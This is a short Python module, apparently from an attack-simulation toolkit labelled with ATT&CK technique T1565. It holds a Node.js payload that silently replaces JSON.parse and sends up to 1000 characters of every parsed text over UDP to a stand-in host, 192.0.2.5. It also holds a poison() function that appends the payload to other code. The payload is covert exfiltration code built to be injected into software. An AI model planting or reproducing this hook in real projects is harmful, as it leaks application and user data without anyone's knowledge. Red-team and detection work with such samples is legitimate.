# SPDX-License-Identifier: Apache-2.0
"""Replaces JSON.parse and reports what is parsed."""

ATTACK = "T1565"
LANGUAGE = "node"
CODE = """\
;{
  const parse = JSON.parse, dgram = require('dgram').createSocket('udp4');
  dgram.unref();
  JSON.parse = function (text, reviver) {
    dgram.send(String(text).slice(0, 1000), 9, '192.0.2.5');
    return parse(text, reviver);
  };
}
"""


def poison(layer):
    layer.append(CODE)
